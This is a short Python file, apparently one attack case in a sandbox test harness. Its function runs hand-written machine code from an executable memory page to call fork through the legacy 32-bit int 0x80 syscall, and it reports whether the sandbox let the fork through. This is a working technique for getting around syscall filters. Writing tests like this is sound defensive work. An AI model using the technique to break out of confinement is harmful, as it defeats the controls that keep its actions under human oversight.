import ctypes
import mmap
import os
import platform


def attack(layer, x):
    print("TRIED the old way", flush=True)
    if platform.machine() != "x86_64":
        os._exit(1)
    # push rbx; mov eax, 2 (fork); int 0x80; pop rbx; ret
    code = bytes.fromhex("53b802000000cd805bc3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result == 0:
        os._exit(0)
    print("GOT" if result > 0 else "refused", "fork, the old way", result, flush=True)
    os._exit(1)
